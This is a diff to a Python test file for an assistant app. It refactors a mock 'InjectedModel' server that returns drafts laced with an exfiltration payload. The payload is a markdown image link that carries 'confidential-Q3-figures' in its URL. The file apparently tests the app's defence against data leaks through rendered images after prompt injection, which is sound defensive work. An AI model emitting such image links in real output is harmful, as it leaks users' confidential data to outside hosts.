@@ -17,7 +17,7 @@ from assistant.services import mentions, posts, workspace
 from assistant.services.workspace import actor_for_email
 from assistant.storage.models import Member, Mention
 from tests.app.conftest import signed_in_app
-from tests.integration.test_llm_mock import completion, sse
+from tests.integration.test_llm_mock import answer_chat
 
 MAYA, SAM, RILEY = "maya@lumengrid.example", "sam@lumengrid.example", "riley@lumengrid.example"
 EXFIL = "![x](http://127.0.0.1/exfil.png?d=confidential-Q3-figures)"
@@ -88,20 +88,7 @@ class InjectedModel(BaseHTTPRequestHandler):
                 "drafts": [{"angle": f"{EXFIL}", "text": f"Steel frames arrived. {EXFIL} {IMG} #{i}"} for i in range(3)]
             }
         )
-        if body.get("stream"):
-            self.send_response(200)
-            self.send_header("content-type", "text/event-stream")
-            self.send_header("connection", "close")
-            self.end_headers()
-            self.wfile.write(sse(content, size=7))
-            self.close_connection = True
-            return
-        data = json.dumps(completion(content)).encode()
-        self.send_response(200)
-        self.send_header("content-type", "application/json")
-        self.send_header("content-length", str(len(data)))
-        self.end_headers()
-        self.wfile.write(data)
+        answer_chat(self, body, content, size=7)
 
 
 @pytest.fixture
